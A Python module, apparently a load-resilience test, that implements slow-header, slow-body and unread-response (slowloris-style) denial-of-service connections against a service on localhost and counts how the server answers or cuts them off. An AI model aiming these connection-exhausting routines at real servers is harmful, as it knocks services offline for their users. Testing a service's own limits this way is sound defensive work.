"""Attacks that cost the attacker nothing: connections that send byte by byte, or ask and never read."""

import asyncio
import random
import socket
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress

Told = Counter[str]
HEAD = b"POST /recommend HTTP/1.1\r\nHost: promise\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n"
BETWEEN_S = 0.5
UNREAD = 12  # large answers asked for on one connection: more than the system keeps for a caller
SMALL = 4096  # bytes of a receive buffer


async def heads(port: int, connections: int, seconds: float) -> Told:
    """A head of a request that never ends, a byte every half a second on every connection."""
    return await _crowd(connections, seconds, lambda until, told: _drip(port, HEAD[:1], HEAD[1:] * 50, until, told))


async def bodies(port: int, connections: int, seconds: float) -> Told:
    """A whole head, then a body byte by byte."""
    return await _crowd(connections, seconds, lambda until, told: _drip(port, HEAD + b"\r\n", b" " * 1000, until, told))


async def readers(port: int, connections: int, seconds: float) -> Told:
    """Large answers asked for one after another, and none of them read."""
    return await _crowd(connections, seconds, lambda until, told: _unread(port, until, told))


async def _crowd(count: int, seconds: float, one: Callable[[float, Told], Awaitable[None]]) -> Told:
    """`one` on every connection; a connection that is closed is opened anew."""
    told, until = Counter[str](), time.monotonic() + seconds

    async def again() -> None:
        await asyncio.sleep(random.random())  # noqa: S311 - that not all of them knock at once
        while time.monotonic() < until:
            await one(until, told)

    await asyncio.gather(*(again() for _ in range(count)))
    return told


async def _drip(port: int, first: bytes, rest: bytes, until: float, told: Told) -> None:
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
    except OSError:
        told["not accepted"] += 1
        await asyncio.sleep(0.2)
        return
    told["opened"] += 1
    began, answer = time.monotonic(), asyncio.ensure_future(reader.read(4096))
    try:
        for byte in (first, *(bytes([one]) for one in rest)):
            writer.write(byte)
            done, _ = await asyncio.wait([answer], timeout=BETWEEN_S)
            if done or time.monotonic() > until:
                break
        held = time.monotonic() - began
        if not answer.done():
            told["held to the end"] += 1
        elif answer.exception() is None:
            told[_named(answer.result())] += 1
        told["longest ms"] = max(told["longest ms"], round(1000 * held))
    except OSError:
        told["reset"] += 1
    finally:
        answer.cancel()
        with suppress(BaseException):
            await answer
        writer.transport.abort()


async def _unread(port: int, until: float, told: Told) -> None:
    plug = socket.socket()
    plug.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL)
    plug.setblocking(False)
    loop = asyncio.get_running_loop()
    try:
        await loop.sock_connect(plug, ("127.0.0.1", port))
        await loop.sock_sendall(plug, b"GET /openapi.json HTTP/1.1\r\nHost: promise\r\n\r\n" * UNREAD)
        told["opened"] += 1
        began = time.monotonic()
        while time.monotonic() < until:
            await asyncio.sleep(BETWEEN_S)
            if plug.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) or _closed(plug):
                told["cut"] += 1
                break
        told["longest ms"] = max(told["longest ms"], round(1000 * (time.monotonic() - began)))
    except OSError:
        told["reset"] += 1
        await asyncio.sleep(0.2)
    finally:
        plug.close()


def _closed(plug: socket.socket) -> bool:
    """Whether the other side is gone, told without reading: Linux says so in the state of the connection."""
    state = plug.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
    return state != 1  # established


def _named(answer: bytes) -> str:
    """ "408", "503", … or closed without a word."""
    return answer[9:12].decode("latin-1") if answer.startswith(b"HTTP/1.1 ") else "closed"
